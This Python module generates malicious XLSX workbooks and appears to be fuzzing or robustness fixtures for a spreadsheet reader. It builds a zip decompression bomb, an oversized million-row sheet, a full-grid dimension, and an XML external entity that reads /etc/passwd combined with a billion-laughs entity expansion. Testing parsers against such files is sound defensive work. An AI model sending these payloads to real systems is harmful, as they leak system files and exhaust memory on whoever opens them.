"""Workbooks made to burst whoever opens them."""

import io
import zipfile

MB = 1024 * 1024
BUTLER = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">%s]>'


def workbook(sheet):
    """The smallest XLSX whose only sheet is `sheet`."""
    main = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    kept = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = b"http://schemas.openxmlformats.org/package/2006/relationships"
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(
            "[Content_Types].xml",
            b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        )
        packed.writestr(
            "_rels/.rels",
            b'<Relationships xmlns="%s"><Relationship Id="r1" Type="%s/officeDocument" Target="xl/workbook.xml"/>'
            b"</Relationships>" % (package, kept),
        )
        packed.writestr(
            "xl/_rels/workbook.xml.rels",
            b'<Relationships xmlns="%s"><Relationship Id="r1" Type="%s/worksheet" Target="worksheets/sheet1.xml"/>'
            b"</Relationships>" % (package, kept),
        )
        packed.writestr(
            "xl/workbook.xml",
            b'<workbook %s xmlns:r="%s"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>'
            % (main, kept),
        )
        with packed.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as entry:
            for block in sheet(main):
                entry.write(block)
    return made.getvalue()


def bomb(main):
    """A sheet of 400 MB in 400 kB: one row that goes on and on."""
    yield b"<worksheet %s><sheetData><row>" % main
    for _n in range(400):
        yield b"<c><v>1</v></c>" * (MB // 15)
    yield b"</row></sheetData></worksheet>"


def tall(main):
    """Under every limit of the archive, but a million rows."""
    yield b"<worksheet %s><sheetData>" % main
    for start in range(0, 1_000_000, 10_000):
        yield b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(start + 1, start + 10_001))
    yield b"</sheetData></worksheet>"


def far(main):
    """Two cells in opposite corners: 17 thousand million empty ones between them."""
    yield b'<worksheet %s><dimension ref="A1:XFD1048576"/><sheetData>' % main
    yield b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    yield b"</sheetData></worksheet>"


def entities(main):
    """An external entity, and entities that double each other thirty times."""
    doubling = b"".join(b'<!ENTITY e%d "&e%d;&e%d;">' % (n, n - 1, n - 1) for n in range(2, 32))
    yield BUTLER % (b'<!ENTITY e1 "ha">' + doubling)
    yield b'<worksheet %s><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>' % main
    yield b'<row r="2"><c r="A2" t="inlineStr"><is><t>&e;&e31;</t></is></c></row></sheetData></worksheet>'
